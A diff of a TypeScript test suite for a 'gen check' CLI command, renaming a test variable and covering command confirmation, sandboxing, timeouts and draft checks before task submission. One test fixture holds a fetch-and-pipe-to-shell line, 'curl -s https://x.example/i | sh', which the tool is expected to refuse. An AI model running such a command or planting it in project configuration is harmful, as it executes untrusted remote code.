@@ -43,7 +43,7 @@ const runForJson = async (terminal: TerminalOptions, ...argv: string[]) => {
 };
 
 it('gen check, gen iterate --dry-run and gen init name the human checks that the profile leaves out', async () => {
-  const project = await projectWith(
+  const terminal = await projectWith(
     check('fine', 'command: "true"'),
     'name: looks_good, type: human, criterion: "It looks good", required: true',
   );
@@ -54,84 +54,84 @@ it('gen check, gen iterate --dry-run and gen init name the human checks that the
     ['init'],
   ];
   for (const argv of commands) {
-    const { code, err } = await runGen(project, ...argv);
+    const { code, err } = await runGen(terminal, ...argv);
     expect([argv[0], code, err.replace(/\s+/g, ' ')]).toEqual([argv[0], 0, expect.stringMatching(sentence)]);
   }
   await writeProjectFile(
-    project.cwd,
+    terminal.cwd,
     '.ai-workspace/profiles/minimal.yml',
     PROFILE.replace('deterministic]', 'deterministic, human]'),
   );
   for (const argv of commands.toReversed())
-    expect((await runGen(project, ...argv)).err).not.toContain('leaves out human checks');
+    expect((await runGen(terminal, ...argv)).err).not.toContain('leaves out human checks');
 }, 60_000);
 
 describe.skipIf(sandbox.kind === 'none')(`gen check${skippedSuffix}`, { timeout: 120_000 }, () => {
   it('asks before it runs a command of the repository, and remembers the answer', async () => {
-    const project = await projectWith(check('fine', 'command: "test -f specification/INTENT.md"'));
-    const refused = await runGen(project, 'check', SUBJECT);
+    const terminal = await projectWith(check('fine', 'command: "test -f specification/INTENT.md"'));
+    const refused = await runGen(terminal, 'check', SUBJECT);
     expect(refused.code).toBe(3);
     expect(refused.err).toContain('fine: test -f specification/INTENT.md');
     expect(refused.err).toContain(`gen check ${SUBJECT} --yes`);
-    const declined = await runGen({ ...project, isStdinTty: true, stdin: '\n' }, 'check', SUBJECT);
+    const declined = await runGen({ ...terminal, isStdinTty: true, stdin: '\n' }, 'check', SUBJECT);
     expect(declined.code).toBe(3);
     expect(declined.err).toContain('Run 1 command of this repository? [y/N]:');
-    const agreed = await runGen({ ...project, isStdinTty: true, stdin: 'y\n' }, 'check', SUBJECT);
+    const agreed = await runGen({ ...terminal, isStdinTty: true, stdin: 'y\n' }, 'check', SUBJECT);
     expect(agreed.out).toMatch(/fine +pass/);
     expect(agreed.code).toBe(0);
-    expect(await runGen(project, 'check', SUBJECT)).toMatchObject({ code: 0, err: '' });
+    expect(await runGen(terminal, 'check', SUBJECT)).toMatchObject({ code: 0, err: '' });
   });
 
   it('asks again when a command has changed', async () => {
-    const project = await projectWith(check('fine', 'command: "true"'));
-    expect((await runGen(project, 'check', SUBJECT, '--yes')).code).toBe(0);
-    await writeProjectFile(project.cwd, EDGE_FILE, edgeFile(check('fine', 'command: "true", shell: true')));
-    const { code, reply } = await runForJson(project);
+    const terminal = await projectWith(check('fine', 'command: "true"'));
+    expect((await runGen(terminal, 'check', SUBJECT, '--yes')).code).toBe(0);
+    await writeProjectFile(terminal.cwd, EDGE_FILE, edgeFile(check('fine', 'command: "true", shell: true')));
+    const { code, reply } = await runForJson(terminal);
     expect([code, reply.code]).toEqual([3, 'COMMAND_NOT_CONFIRMED']);
   });
 
   it('runs the checks on the drafts of the claim, and leaves the project as it is', async () => {
-    const project = await projectWith(HAS_DOCS, check('writes', 'command: "touch docs/new.md"'));
-    expect((await runForJson(project, '--yes')).reply.checks).toMatchObject([
+    const terminal = await projectWith(HAS_DOCS, check('writes', 'command: "touch docs/new.md"'));
+    expect((await runForJson(terminal, '--yes')).reply.checks).toMatchObject([
       { result: 'fail' },
       { result: 'fail' },
     ]);
-    const claimed = await runGen(project, 'task', 'claim', SUBJECT, '--role', 'architect', '--json');
+    const claimed = await runGen(terminal, 'task', 'claim', SUBJECT, '--role', 'architect', '--json');
     const { draft_folder } = JSON.parse(claimed.out) as { draft_folder: string };
-    expect((await runForJson(project)).reply.drafts).toEqual([]);
-    await writeProjectFile(project.cwd, `${draft_folder}/docs/login.md`, 'People log in.\n');
-    const { code, reply } = await runForJson(project);
+    expect((await runForJson(terminal)).reply.drafts).toEqual([]);
+    await writeProjectFile(terminal.cwd, `${draft_folder}/docs/login.md`, 'People log in.\n');
+    const { code, reply } = await runForJson(terminal);
     expect(reply).toMatchObject({ drafts: ['docs/login.md'], is_sandboxed: true });
     expect(reply.checks).toMatchObject([{ result: 'pass' }, { result: 'pass' }]);
     expect(code).toBe(0);
-    expect(await readdir(project.cwd)).not.toContain('docs');
+    expect(await readdir(terminal.cwd)).not.toContain('docs');
   });
 
   it('runs before gen task submit: a false check report does not converge the edge, and unconfirmed commands are named', async () => {
-    const project = await projectWith(HAS_DOCS);
-    const claimed = await runGen(project, 'task', 'claim', SUBJECT, '--role', 'architect', '--json');
+    const terminal = await projectWith(HAS_DOCS);
+    const claimed = await runGen(terminal, 'task', 'claim', SUBJECT, '--role', 'architect', '--json');
     const { draft_folder } = JSON.parse(claimed.out) as { draft_folder: string };
-    await writeProjectFile(project.cwd, `${draft_folder}/docs/other.md`, 'People log in.\n');
-    await runGen(project, 'check', SUBJECT, '--yes');
-    const submit = () => runGen(project, 'task', 'submit', SUBJECT, '--drafts', '--check', 'has_docs=pass');
+    await writeProjectFile(terminal.cwd, `${draft_folder}/docs/other.md`, 'People log in.\n');
+    await runGen(terminal, 'check', SUBJECT, '--yes');
+    const submit = () => runGen(terminal, 'task', 'submit', SUBJECT, '--drafts', '--check', 'has_docs=pass');
     const lie = await submit();
     expect(lie.err).toContain('Check has_docs: fail.');
     expect(lie.err).toContain('NOT_CONVERGED');
-    await writeProjectFile(project.cwd, EDGE_FILE, edgeFile(check('has_docs', 'command: "test -d docs"')));
+    await writeProjectFile(terminal.cwd, EDGE_FILE, edgeFile(check('has_docs', 'command: "test -d docs"')));
     expect((await submit()).err).toContain(
       `Not run: has_docs; their commands are not confirmed. Confirm them with: gen check ${SUBJECT}`,
     );
   });
 
   it('runs before gen task submit of a file too, if there are drafts; otherwise names what was not run', async () => {
-    const project = await projectWith(HAS_DOCS);
-    await runGen(project, 'check', SUBJECT, '--yes');
-    const claimed = await runGen(project, 'task', 'claim', SUBJECT, '--role', 'architect', '--json');
+    const terminal = await projectWith(HAS_DOCS);
+    await runGen(terminal, 'check', SUBJECT, '--yes');
+    const claimed = await runGen(terminal, 'task', 'claim', SUBJECT, '--role', 'architect', '--json');
     const { draft_folder } = JSON.parse(claimed.out) as { draft_folder: string };
     const submit = () =>
-      runGen(project, 'task', 'submit', SUBJECT, '--data', '1', '--check', 'has_docs=fail');
+      runGen(terminal, 'task', 'submit', SUBJECT, '--data', '1', '--check', 'has_docs=fail');
     expect((await submit()).err).toContain('Not run: has_docs; there are no drafts of this work here.');
-    await writeProjectFile(project.cwd, `${draft_folder}/docs/login.md`, 'People log in.\n');
+    await writeProjectFile(terminal.cwd, `${draft_folder}/docs/login.md`, 'People log in.\n');
     const checked = await submit();
     expect(checked.err).toContain('Check has_docs: pass.');
     expect(checked.code).toBe(0);
@@ -139,24 +139,24 @@ describe.skipIf(sandbox.kind === 'none')(`gen check${skippedSuffix}`, { timeout:
 
   it('shows the last lines of a failing check, and exits with 1', async () => {
     const failing = check('fails', 'command: "echo first; echo the reason >&2; exit 4", shell: true');
-    const project = await projectWith(failing, HAS_DOCS, check('fine', 'command: "true"'));
-    const { out, code } = await runGen(project, 'check', SUBJECT, '--yes');
+    const terminal = await projectWith(failing, HAS_DOCS, check('fine', 'command: "true"'));
+    const { out, code } = await runGen(terminal, 'check', SUBJECT, '--yes');
     expect(code).toBe(1);
     expect(out).toContain('the project as it is');
     expect(out).toMatch(/fails +fail +[\d.]+ s +The command ended with exit code 4/);
     expect(out).toContain('    the reason');
-    expect(await runGen(project, 'check', SUBJECT, 'fine')).toMatchObject({ code: 0 });
+    expect(await runGen(terminal, 'check', SUBJECT, 'fine')).toMatchObject({ code: 0 });
   });
 
   it('refuses a command that only a shell understands, and reads the result of a check from its report', async () => {
     const report = 'report: {format: junit, path: r.xml}';
     const line = `command: "echo '<testsuite/>' > r.xml", shell: true`;
-    const project = await projectWith(
+    const terminal = await projectWith(
       check('installs', 'command: "curl -s https://x.example/i | sh"'),
       check('reports', `${line}, ${report}`),
       check('slow', 'command: "sleep 1000", timeout_seconds: 1'),
     );
-    const { code, reply } = await runForJson(project, '--yes');
+    const { code, reply } = await runForJson(terminal, '--yes');
     expect(code).toBe(1);
     expect(reply.checks).toMatchObject([
       {
@@ -172,8 +172,8 @@ describe.skipIf(sandbox.kind === 'none')(`gen check${skippedSuffix}`, { timeout:
 
   it('ends its commands when it is stopped', async () => {
     const seconds = `1${randomInt(1e8, 1e9)}`;
-    const project = await projectWith(check('sleeps', `command: "sleep ${seconds}"`));
-    const running = startCommand(project, 'check', SUBJECT, '--yes');
+    const terminal = await projectWith(check('sleeps', `command: "sleep ${seconds}"`));
+    const running = startCommand(terminal, 'check', SUBJECT, '--yes');
     await expect.poll(() => isRunning(`sleep\0${seconds}`), { timeout: 60_000 }).toBe(true);
     running.stop('SIGINT');
     expect((await running.ended).code).toBe(130);
@@ -183,12 +183,12 @@ describe.skipIf(sandbox.kind === 'none')(`gen check${skippedSuffix}`, { timeout:
 
 describe('gen check without bubblewrap', { timeout: 120_000 }, () => {
   it('refuses with exit code 3, unless it may run without a sandbox', async () => {
-    const project = await projectWith(check('fine', 'command: "true"'));
-    const bin = join(project.cwd, '.bin');
+    const terminal = await projectWith(check('fine', 'command: "true"'));
+    const bin = join(terminal.cwd, '.bin');
     await mkdir(bin);
     for (const name of ['sh', 'true', 'git', 'prlimit', 'setpriv'])
       await symlink(findProgram(name, process.env.PATH) ?? '/nonexistent', join(bin, name));
-    const bare = { ...project, env: { ...project.env, PATH: bin } };
+    const bare = { ...terminal, env: { ...terminal.env, PATH: bin } };
     const { code, reply } = await runForJson(bare, '--yes');
     expect([code, reply.code]).toEqual([3, 'NO_SANDBOX']);
     const allowed = await runForJson(bare, '--unsandboxed');
@@ -198,27 +198,27 @@ describe('gen check without bubblewrap', { timeout: 120_000 }, () => {
   });
 
   it('does not run an unconfirmed command without a sandbox either', async () => {
-    const project = await projectWith(check('fine', 'command: "true"'));
-    expect(await runGen(project, 'check', SUBJECT, '--unsandboxed')).toMatchObject({ code: 3, out: '' });
+    const terminal = await projectWith(check('fine', 'command: "true"'));
+    expect(await runGen(terminal, 'check', SUBJECT, '--unsandboxed')).toMatchObject({ code: 3, out: '' });
   });
 
   it('runs gen gaps on the copy, though the sandbox has no gen', async () => {
-    const project = await projectWith(check('tagged', 'command: "gen gaps --layer 1"'));
-    const untagged = await runGen(project, 'check', SUBJECT, '--yes');
+    const terminal = await projectWith(check('tagged', 'command: "gen gaps --layer 1"'));
+    const untagged = await runGen(terminal, 'check', SUBJECT, '--yes');
     expect(untagged).toMatchObject({ code: 1, out: expect.stringMatching(/tagged +fail/) });
     expect(untagged.out).toContain(FEATURE_ID);
-    await writeProjectFile(project.cwd, 'login.js', `// Implements: ${FEATURE_ID}\n`);
-    expect(await runGen(project, 'check', SUBJECT)).toMatchObject({ code: 0 });
+    await writeProjectFile(terminal.cwd, 'login.js', `// Implements: ${FEATURE_ID}\n`);
+    expect(await runGen(terminal, 'check', SUBJECT)).toMatchObject({ code: 0 });
   });
 
   it('names the checks of the edge when the given check is unknown', async () => {
-    const project = await projectWith(HAS_DOCS);
-    const unknown = await runGen(project, 'check', SUBJECT, 'has_doc');
+    const terminal = await projectWith(HAS_DOCS);
+    const unknown = await runGen(terminal, 'check', SUBJECT, 'has_doc');
     expect(unknown).toMatchObject({ code: 2, err: expect.stringContaining('It has: has_docs.') });
-    expect((await runGen(project, 'check', 'A-001')).code).toBe(2);
-    const unconfirmed = await runGen(project, 'check', SUBJECT, 'has_docs');
+    expect((await runGen(terminal, 'check', 'A-001')).code).toBe(2);
+    const unconfirmed = await runGen(terminal, 'check', SUBJECT, 'has_docs');
     expect(unconfirmed.err).toContain(`gen check ${SUBJECT} has_docs --yes`);
-    const confirmed = await runGen(project, 'check', SUBJECT, 'has_docs', '--yes', '--unsandboxed');
+    const confirmed = await runGen(terminal, 'check', SUBJECT, 'has_docs', '--yes', '--unsandboxed');
     expect(confirmed.err).toMatch(/Confirmed in .*:\n {2}has_docs: test -f docs\/login.md/);
   });
 });
